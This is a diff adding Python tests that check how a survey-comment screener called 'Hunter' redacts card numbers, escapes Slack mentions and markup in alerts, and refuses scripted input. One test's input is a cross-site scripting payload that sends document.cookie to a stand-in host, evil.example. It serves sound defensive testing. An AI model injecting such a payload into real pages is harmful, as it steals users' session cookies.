@@ -197,3 +197,41 @@ async def test_satisfaction_of_a_project_never_surveyed(services):
     report = await op(services, VIEWER, track_client_satisfaction, d.project_id)
     assert report.nps_score is None and report.survey_status is None and report.agency_nps is None
     assert report.recommendations and "Send an NPS survey" in report.recommendations[0]
+
+
+async def test_comment_is_screened_before_storage_and_escaped_in_the_alert(slack_services, fake_slack):
+    s = slack_services
+    d, sent, token = await sent_survey(s, owner="U0OWNER", title="Bot for <@U0BOSS>")
+    comment = "Terrible. <@U0CEO> look: <b>card 4111 1111 1111 1111</b> was charged twice <!channel>"
+    await answer(s, d, token, 2, comment)
+    survey = await get(s, NpsSurvey, sent.survey_id)
+    assert "4111 1111 1111 1111" not in survey.comment and "[redacted" in survey.comment
+    assert "<!channel>" not in survey.comment and "Terrible." in survey.comment
+    assert {f["detector"] for f in survey.metadata_["hunter"]["findings"]} >= {"payment_card", "markup"}
+    project = await get(s, Project, d.project_id)
+    assert "4111 1111" not in project.client_feedback
+    async with s.session_factory() as session:
+        inter = (await session.execute(select(Interaction).where(Interaction.channel == "nps_link"))).scalar_one()
+        assert "4111 1111" not in inter.summary and inter.metadata_["hunter"]["action"] == "redact"
+    alerts = [c for c in await fake_slack.wait_for("chat.postMessage", 2) if c.params["channel"] == "C0ALERTS"]
+    text = alerts[0].params["text"]
+    assert text.startswith(":rotating_light: <@U0OWNER> ")  # our own mention still pings the owner
+    assert "<@U0CEO>" not in text and "&lt;@U0CEO&gt;" in text and "<b>" not in text
+    assert "<@U0BOSS>" not in text and "&lt;@U0BOSS&gt;" in text  # the project title is escaped too
+
+
+async def test_a_script_in_a_comment_is_refused_and_nothing_is_saved(services):
+    d, sent, token = await sent_survey(services)
+    with pytest.raises(PolicyDenied, match="refused by Hunter"):
+        await answer(services, d, token, 9, "Great! <script>fetch('https://evil.example/?c='+document.cookie)</script>")
+    survey = await get(services, NpsSurvey, sent.survey_id)
+    assert survey.status != "answered" and survey.comment is None
+    assert any("Hunter blocked an NPS comment" in m["text"] for m in services.notifier.inner.sent)
+
+
+async def test_a_clean_update_drops_the_old_findings(services):
+    d, sent, token = await sent_survey(services)
+    await answer(services, d, token, 8, "Fine, see <b>notes</b>")
+    assert "hunter" in (await get(services, NpsSurvey, sent.survey_id)).metadata_
+    await answer(services, d, token, 9, "Fine, all good now")
+    assert "hunter" not in (await get(services, NpsSurvey, sent.survey_id)).metadata_
